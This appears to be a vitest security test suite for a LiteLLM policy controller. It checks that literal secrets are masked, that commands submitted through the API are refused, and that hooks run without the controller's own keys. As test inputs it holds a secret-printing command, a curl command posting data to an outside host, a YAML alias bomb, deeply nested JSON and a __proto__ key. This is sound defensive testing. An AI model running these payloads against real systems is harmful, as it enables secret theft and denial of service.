import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createApiServer } from '../../src/api/server.js';
import { runCli } from '../../src/cli/run.js';
import { buildFromTexts } from '../../src/compile/build.js';
import { PolicyRepo } from '../../src/gitstate/policy-repo.js';
import { healthSettings } from '../../src/health/settings.js';
import { runHook } from '../../src/keys/hooks.js';
import { silentLogger } from '../../src/log/logger.js';
import { formatProblem } from '../../src/policy/problems.js';
import { maskSecretsInText } from '../../src/policy/secrets.js';
import { SelfExpansion } from '../../src/providers/expansion.js';
import { PoolStore } from '../../src/providers/pool.js';
import { ProposalInvalidError, type ProposalResult } from '../../src/providers/proposal.js';
import { providerRoutes } from '../../src/providers/routes.js';
import { ModelSync } from '../../src/providers/sync.js';
import { LocalSecretStore } from '../../src/secrets/local-store.js';
import { stateSecret } from '../../src/settings/state-secret.js';
import { testProvider } from '../../src/providers/test-provider.js';
import { InputError } from '../../src/shared/errors.js';
import { git, policyRepo } from '../helpers/repo.js';
import { testKey } from '../helpers/secrets.js';

/** Problems of policies given as text, each as `file:line:col path: message — hint`. */
function problemsOf(text: string): string[] {
  return buildFromTexts([{ name: 'policies/p.yaml', text }]).findings.errors.map(formatProblem);
}

async function validate(text: string): Promise<{ code: number; stdout: string; stderr: string }> {
  const dir = await mkdtemp(path.join(tmpdir(), 'mc-boundaries-'));
  try {
    await writeFile(path.join(dir, 'p.yaml'), text);
    let stdout = '';
    let stderr = '';
    const code = await runCli(['validate', '--policies', dir], {
      stdout: (t) => (stdout += t),
      stderr: (t) => (stderr += t),
      cwd: dir,
    });
    return { code, stdout, stderr };
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

const PROVIDER = 'providers:\n  openai:\n    kind: openai\n    credential: env:OPENAI_API_KEY\n';

describe('the policy kinds added since the loader was hardened', () => {
  it('refuses a literal secret in master_key.deliver.hook, masked, at its line (the section was not checked)', async () => {
    const key = testKey();
    const result = await validate(
      `master_key:\n  rotate_every: 30d\n  deliver:\n    hook: "curl -H 'Authorization: Bearer ${key}' https://hooks.example/new-key"\n`,
    );
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/p\.yaml:4:5 master_key\.deliver\.hook: .*literal secret/);
    expect(result.stderr + result.stdout).not.toContain(key);
  });

  it('refuses a reference to the controller own secrets in a delivery hook and file', () => {
    const problems = problemsOf(
      'master_key:\n  deliver:\n    hook: env:LITELLM_MASTER_KEY\n    file: os.environ/MODELCENTER_ADMIN_TOKENS\n',
    );
    expect(problems).toEqual([
      expect.stringMatching(/p\.yaml:3:5 master_key\.deliver\.hook: env:LITELLM_MASTER_KEY names/),
      expect.stringMatching(/p\.yaml:4:5 master_key\.deliver\.file: .*MODELCENTER_ADMIN_TOKENS/),
    ]);
  });

  it('refuses an expansion bomb in key schedules, delivery hooks and health sections through the CLI: exit 1, file:line, in well under a second of checking', async () => {
    let bomb = 'x-a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n';
    let previous = 'a';
    for (const name of 'bcdefghi') {
      bomb += `x-${name}: &${name} [${Array(9).fill(`*${previous}`).join(', ')}]\n`;
      previous = name;
    }
    const places = [
      [`${PROVIDER}    rotation:\n      issue: *i\n`, 'providers.openai.rotation.issue'],
      ['master_key:\n  deliver:\n    hook: *i\n', 'master_key.deliver.hook'],
      ['health:\n  alert: *i\n', 'health.alert'],
    ] as const;
    for (const [section, where] of places) {
      const started = performance.now();
      const result = await validate(bomb + section);
      expect(performance.now() - started).toBeLessThan(1000);
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(
        new RegExp(`p\\.yaml:\\d+:\\d+ ${where.replace(/\./g, '\\.')}: aliases expand .*bomb`),
      );
    }
  });

  it('refuses durations too long for date arithmetic and timers, naming the field (99999999999999999999d was accepted)', () => {
    for (const [section, where] of [
      ['health:\n  window: 99999999999999999999d\n', 'health.window'],
      ['master_key:\n  rotate_every: 99999999999999999999w\n', 'master_key.rotate_every'],
      [
        `${PROVIDER}    rotation:\n      rotate_every: 3651d\n      issue: [echo]\n`,
        'providers.openai.rotation.rotate_every',
      ],
    ] as const) {
      expect(problemsOf(section)).toEqual([
        expect.stringMatching(
          new RegExp(`${where.replace(/\./g, '\\.')}: a duration may be at most 3650d`),
        ),
      ]);
    }
    expect(problemsOf('master_key:\n  rotate_every: 3650d\n')).toEqual([]);
  });

  it('sleeps at most as long as a Node timer can between health evaluations (evaluate_every: 30d fired every millisecond)', () => {
    const build = buildFromTexts([{ name: 'p.yaml', text: 'health:\n  evaluate_every: 30d\n' }]);
    expect(build.findings.errors).toEqual([]);
    const every = healthSettings(build.set).evaluateEveryMs;
    expect(every).toBeLessThanOrEqual(2 ** 31 - 1);
    expect(every).toBeGreaterThan(20 * 86_400_000);
  });

  it('serves names that are JavaScript properties as providers and in params, and refuses __proto__ in a health section', () => {
    const build = buildFromTexts([
      {
        name: 'p.yaml',
        text: 'providers:\n  constructor:\n    kind: openai\n    credential: env:OPENAI_API_KEY\n    params:\n      toString: x\n      constructor: y\nmodels:\n  valueof:\n    provider: constructor\n    capabilities: [chat]\n    pricing: { input_per_mtok: 1, output_per_mtok: 1 }\n',
      },
    ]);
    expect(build.findings.errors).toEqual([]);
    expect(build.config!.model_list[0]!.litellm_params).toMatchObject({
      toString: 'x',
      constructor: 'y',
    });
    expect(problemsOf('health:\n  __proto__: { window: 1m }\n')).toEqual([
      expect.stringMatching(/p\.yaml:2:3 health\.__proto__: the key "__proto__" cannot be used/),
    ]);
  });
});

describe('a small file that asks for a huge config', () => {
  it('is refused by counting deployments before building any (a 221 KB file took 1.3 GB to be refused)', () => {
    const models = Array.from(
      { length: 2000 },
      (_, i) =>
        `  m${i}: { provider: openai, capabilities: [chat], pricing: { input_per_mtok: 1, output_per_mtok: 1 } }`,
    );
    const profiles = Array.from({ length: 60 }, (_, i) => `  p${i}: { requires: [chat] }`);
    const text = `${PROVIDER}models:\n${models.join('\n')}\nprofiles:\n${profiles.join('\n')}\n`;
    expect(text.length).toBeLessThan(250_000);
    const build = buildFromTexts([{ name: 'policies/p.yaml', text }]);
    expect(build.config).toBeUndefined();
    expect(build.findings.errors.map(formatProblem)).toEqual([
      expect.stringMatching(
        /^policies\/p\.yaml:2007:3 profiles\.p0: the policies ask for 122,000 deployments, more than the 100,000 one LiteLLM config may hold; profile "p0" alone has 2,000 — serve fewer deployments/,
      ),
    ]);
  });
});

describe('masking secrets in policy text that is answered', () => {
  it('masks bearer tokens, well-known keys, URL user-info, secret query parameters, secret fields and known values', () => {
    const key = testKey();
    const plain = `plain${testKey('').slice(0, 20)}`;
    const text = [
      `+    base_url: https://x.example/v1?api_key=${key}&region=eu`,
      `+    base_url: https://admin:${plain}@x.example/v1`,
      `+        Authorization: Bearer ${key}`,
      `+        x-gateway-key: ${plain}`,
      `+      api_key: "${plain}"`,
      `+      note: ${plain}`,
      '+    credential: secret:nova',
      '+    base_url: https://api.openai.com/v1',
      '+    key: { rotate_every: 30d }',
    ].join('\n');
    const masked = maskSecretsInText(text, [plain]);
    expect(masked).not.toContain(key);
    expect(masked).not.toContain(plain);
    expect(masked).toContain('region=eu');
    expect(masked).toContain('+    credential: secret:nova');
    expect(masked).toContain('+    base_url: https://api.openai.com/v1');
    expect(masked).toContain('+    key: { rotate_every: 30d }');
    expect(masked).toContain('https://…@x.example/v1');
  });
});

describe('providers through the API: secrets and commands', () => {
  let repo: string;
  let policies: string;
  let expansion: SelfExpansion;
  let stored: Map<string, string>;
  const applied: string[] = [];

  beforeAll(async () => {
    repo = await policyRepo(
      `providers:\n  openai:\n    kind: openai\n    credential: env:OPENAI_API_KEY\n    rotation:\n      rotate_every: 30d\n      issue: [./issue-openai-key]\n`,
    );
    policies = path.join(repo, 'policies');
    stored = new Map();
    expansion = new SelfExpansion({
      policiesDir: policies,
      repo: () => PolicyRepo.open(policies),
      apply: async (before) => {
        await before();
        applied.push(git(repo, 'rev-parse', 'HEAD'));
        return {
          outcome: 'applied',
          problems: [],
        } as unknown as Awaited<
          ReturnType<ConstructorParameters<typeof SelfExpansion>[0]['apply']>
        >;
      },
      pool: new PoolStore(path.join(repo, '.modelcenter')),
      storeSecret: (reference, value) => {
        stored.set(reference, value);
        return Promise.resolve();
      },
    });
  });
  afterAll(async () => {
    await rm(repo, { recursive: true, force: true });
  });

  /** The answer a route gives: a result, or the refusal with its plan. */
  async function answer(work: () => Promise<ProposalResult>): Promise<string> {
    try {
      return JSON.stringify(await work());
    } catch (error) {
      if (error instanceof ProposalInvalidError)
        return JSON.stringify({ message: error.message, plan: error.plan });
      throw error;
    }
  }

  it('never answers a literal secret it refuses, in the diff of a dry run or of a refusal (the diff showed it as sent)', async () => {
    const key = testKey();
    const password = testKey('pw');
    const definitions = [
      { base_url: `https://x.example/v1?api_key=${key}`, credential: 'env:NOVA_KEY' },
      { base_url: `https://admin:${password}@x.example/v1`, credential: 'env:NOVA_KEY' },
      {
        base_url: 'https://x.example/v1',
        credential: 'env:NOVA_KEY',
        params: { extra_headers: { Authorization: `Bearer ${key}` } },
      },
      {
        base_url: 'https://x.example/v1',
        credential: 'env:NOVA_KEY',
        params: { api_key: password },
      },
    ];
    const head = git(repo, 'rev-parse', 'HEAD');
    for (const definition of definitions) {
      for (const dryRun of [true, false]) {
        const text = await answer(() =>
          expansion.addProvider(
            'nova',
            { kind: 'openai_compatible', ...definition },
            { author: 'agent', dryRun },
          ),
        );
        expect(text).toMatch(/"valid":false/);
        expect(text).toContain('+  nova:');
        expect(text, JSON.stringify(definition)).not.toContain(key);
        expect(text, JSON.stringify(definition)).not.toContain(password);
      }
    }
    expect(git(repo, 'rev-parse', 'HEAD')).toBe(head);
    expect(stored.size).toBe(0);
  });

  it('refuses env:LITELLM_MASTER_KEY as a credential with the policy problem, committing nothing', async () => {
    const head = git(repo, 'rev-parse', 'HEAD');
    const text = await answer(() =>
      expansion.addProvider(
        'nova',
        {
          kind: 'openai_compatible',
          base_url: 'https://x.example/v1',
          credential: 'env:LITELLM_MASTER_KEY',
        },
        { author: 'agent' },
      ),
    );
    expect(text).toMatch(
      /providers\.nova\.credential: env:LITELLM_MASTER_KEY names one of Model Center's own secrets/,
    );
    expect(git(repo, 'rev-parse', 'HEAD')).toBe(head);
  });

  it('refuses rotation commands through the API, however written, and keeps the ones a file has', async () => {
    const head = git(repo, 'rev-parse', 'HEAD');
    const attempts: Record<string, unknown>[] = [
      { rotation: { rotate_every: '1d', issue: 'printenv LITELLM_MASTER_KEY' } },
      { rotation: { retire: ['sh', '-c', 'curl https://x.example -d @-'] } },
      // A merge key in the JSON body becomes one in the YAML written.
      { '<<': { rotation: { retire: 'id' } } },
    ];
    for (const extra of attempts) {
      const refusal = await expansion
        .addProvider(
          'nova',
          {
            kind: 'openai_compatible',
            base_url: 'https://x.example/v1',
            credential: 'env:NOVA_KEY',
            ...extra,
          },
          { author: 'agent', dryRun: true },
        )
        .then(
          () => undefined,
          (error: unknown) => error,
        );
      expect(refusal, JSON.stringify(extra)).toBeInstanceOf(InputError);
      expect((refusal as InputError).message).toMatch(
        /rotation\.(issue|retire) is a command .* not accepted through the API/,
      );
    }
    const changed = await expansion
      .updateProvider(
        'openai',
        {
          kind: 'openai',
          credential: 'env:OPENAI_API_KEY',
          rotation: { rotate_every: '30d', issue: ['sh', '-c', 'printenv'] },
        },
        { author: 'agent' },
      )
      .catch((error: unknown) => error);
    expect((changed as InputError).message).toMatch(/rotation\.issue is a command/);
    expect(git(repo, 'rev-parse', 'HEAD')).toBe(head);

    // Restating the commands the file has, with another change, is a change like any other.
    const kept = await expansion.updateProvider(
      'openai',
      {
        kind: 'openai',
        credential: 'env:OPENAI_API_KEY',
        limits: { rpm: 100 },
        rotation: { rotate_every: '30d', issue: ['./issue-openai-key'] },
      },
      { author: 'agent' },
    );
    expect(kept.dryRun === false && kept.commit).toBeTruthy();
    expect(git(repo, 'show', 'HEAD:policies/scenario.yaml')).toContain('rpm: 100');
    // A key pasted into the reason is masked in the commit message.
    const pasted = testKey();
    await expansion.updateProvider(
      'openai',
      {
        kind: 'openai',
        credential: 'env:OPENAI_API_KEY',
        limits: { rpm: 200 },
        rotation: { rotate_every: '30d', issue: ['./issue-openai-key'] },
      },
      { author: 'agent', reason: `rotated, the old one was ${pasted}` },
    );
    expect(git(repo, 'log', '-1', '--format=%B')).toMatch(/Reason: rotated, the old one was sk-…/);
    expect(git(repo, 'log', '--all', '--format=%B')).not.toContain(pasted);
  });

  it('answers a provider definition nested thousands deep with a 400 naming the field (the YAML writer overflowed its stack: 500)', async () => {
    const admin = testKey('mc-admin-');
    const pool = new PoolStore(path.join(repo, '.modelcenter'));
    const server = createApiServer({
      routes: providerRoutes({
        policiesDir: policies,
        expansion,
        sync: new ModelSync({
          store: pool,
          credentials: () => undefined,
          prices: () => Promise.resolve({ lookup: () => undefined, size: 0 }),
        }),
        pool,
        credentials: () => undefined,
      }),
      tokens: { admin: [admin], read: [] },
      maxBodyBytes: 1024 * 1024,
      log: { info: () => undefined, warn: () => undefined, error: () => undefined },
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      const head = git(repo, 'rev-parse', 'HEAD');
      const deep = `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`;
      for (const [method, route, body] of [
        [
          'POST',
          '/v1/providers',
          `{"name":"deep","provider":{"kind":"openai","params":{"x":${deep}}}}`,
        ],
        ['PUT', '/v1/providers/openai', `{"provider":{"kind":"openai","params":{"x":${deep}}}}`],
        ['POST', '/v1/providers/test', `{"provider":{"kind":"openai","params":{"x":${deep}}}}`],
      ] as const) {
        const response = await fetch(`${base}${route}`, {
          method,
          headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
          body,
        });
        const answer = (await response.json()) as { error: { message: string; field?: string } };
        expect(response.status, route).toBe(400);
        expect(answer.error.message).toMatch(/nested more than 64 levels deep/);
        expect(answer.error.field).toBe('body.provider');
      }
      expect(git(repo, 'rev-parse', 'HEAD')).toBe(head);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it("GET /v1/providers never shows a hand-written literal credential or a URL's secret", async () => {
    const key = testKey();
    const dir = await mkdtemp(path.join(tmpdir(), 'mc-providers-view-'));
    try {
      await writeFile(
        path.join(dir, 'p.yaml'),
        `providers:\n  nova:\n    kind: openai_compatible\n    base_url: https://x.example/v1?key=${key}\n    credential: ${key}\n`,
      );
      const pool = new PoolStore(dir);
      const routes = providerRoutes({
        policiesDir: dir,
        expansion,
        sync: new ModelSync({
          store: pool,
          credentials: () => undefined,
          prices: () => Promise.resolve({ lookup: () => undefined, size: 0 }),
        }),
        pool,
        credentials: () => undefined,
      });
      const list = routes.find((r) => r.method === 'GET' && r.path === '/v1/providers')!;
      const reply = await list.handle({
        body: undefined,
        query: {},
        params: {},
        requestId: 'r',
        actor: 't',
      });
      const text = JSON.stringify(reply.body);
      expect(text).toContain('"name":"nova"');
      expect(text).not.toContain(key);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('testing a provider definition that is not saved', () => {
  let server: Server;
  let url: string;
  const seen: (string | undefined)[] = [];

  beforeAll(async () => {
    server = createServer((req, res) => {
      seen.push(req.headers.authorization);
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ object: 'list', data: [{ id: 'm', object: 'model' }] }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterEach(() => {
    seen.length = 0;
  });
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
  });

  it("never sends the controller's own secrets to the address given (env:LITELLM_MASTER_KEY reached it as the bearer)", async () => {
    const master = testKey('sk-master-');
    const env: NodeJS.ProcessEnv = { LITELLM_MASTER_KEY: master, MODELCENTER_ADMIN_TOKENS: master };
    for (const credential of ['env:LITELLM_MASTER_KEY', 'env:MODELCENTER_ADMIN_TOKENS']) {
      const report = await testProvider(
        'candidate',
        { kind: 'openai_compatible', base_url: `${url}/v1`, credential },
        (reference) => env[reference.replace(/^env:/, '')],
      );
      expect(report.ok).toBe(false);
      expect(report.error).toMatch(/names one of Model Center's own secrets/);
      expect(JSON.stringify(report)).not.toContain(master);
    }
    expect(seen).toEqual([]);
    // A key of its own is sent as usual.
    const own = testKey();
    const report = await testProvider(
      'candidate',
      { kind: 'openai_compatible', base_url: `${url}/v1`, credential: 'env:NOVA_KEY' },
      () => own,
    );
    expect(report.ok).toBe(true);
    expect(seen).toEqual([`Bearer ${own}`]);
  });

  it('does not call a URL carrying credentials, and never answers them (fetch put the URL in its error)', async () => {
    const password = testKey('pw');
    const report = await testProvider(
      'candidate',
      { kind: 'openai_compatible', base_url: `http://admin:${password}@127.0.0.1:1/v1` },
      () => undefined,
    );
    expect(report.ok).toBe(false);
    expect(report.error).toMatch(/base_url carries credentials/);
    expect(JSON.stringify(report)).not.toContain(password);
    expect(seen).toEqual([]);
  });
});

describe('the commands policies name (issue, retire, delivery hooks)', () => {
  it("run without the controller's own secrets in their environment, with what they are for", async () => {
    const master = testKey('sk-master-');
    const saved = { ...process.env };
    Object.assign(process.env, {
      LITELLM_MASTER_KEY: master,
      LITELLM_SALT_KEY: master,
      DATABASE_URL: `postgres://u:${master}@db/x`,
      MODELCENTER_LEDGER_URL: `postgres://u:${master}@db/ledger`,
      MODELCENTER_ADMIN_TOKENS: master,
      MODELCENTER_SECRET_KEY: master,
      HOOK_OWN_KEY: 'visible',
    });
    try {
      const printed = await runHook({
        what: 'test hook',
        command: ['env'],
        env: { MODELCENTER_SUBJECT: 'master' },
        mask: (t) => t,
      });
      expect(printed).not.toContain(master);
      expect(printed).toContain('HOOK_OWN_KEY=visible');
      expect(printed).toContain('MODELCENTER_SUBJECT=master');
    } finally {
      for (const name of Object.keys(process.env)) if (!(name in saved)) delete process.env[name];
      Object.assign(process.env, saved);
    }
  });
});

describe('the state directory inside the policy repository', () => {
  it('is never committed by a `git add -A`: the generated master key, the secret store and its key stay out of git', async () => {
    const repo = await policyRepo('models: {}\n');
    try {
      const stateDir = path.join(repo, '.modelcenter');
      // The repository's own .gitignore does not name it (the helper's does: drop it).
      await rm(path.join(repo, '.gitignore'));
      const log = silentLogger();
      const master = await stateSecret(stateDir, 'master-key', 'sk-', log);
      const store = await LocalSecretStore.open({ stateDir, env: {}, log });
      const value = testKey();
      await store.put('nova', value);
      git(repo, 'add', '-A');
      const staged = git(repo, 'diff', '--cached', '--name-only');
      expect(staged).toBe('.gitignore');
      expect(staged).not.toContain('.modelcenter');
      git(repo, 'commit', '-q', '-m', 'everything');
      const history = git(repo, 'log', '-p', '--all');
      expect(history).not.toContain(master);
      expect(history).not.toContain(value);
    } finally {
      await rm(repo, { recursive: true, force: true });
    }
  });
});
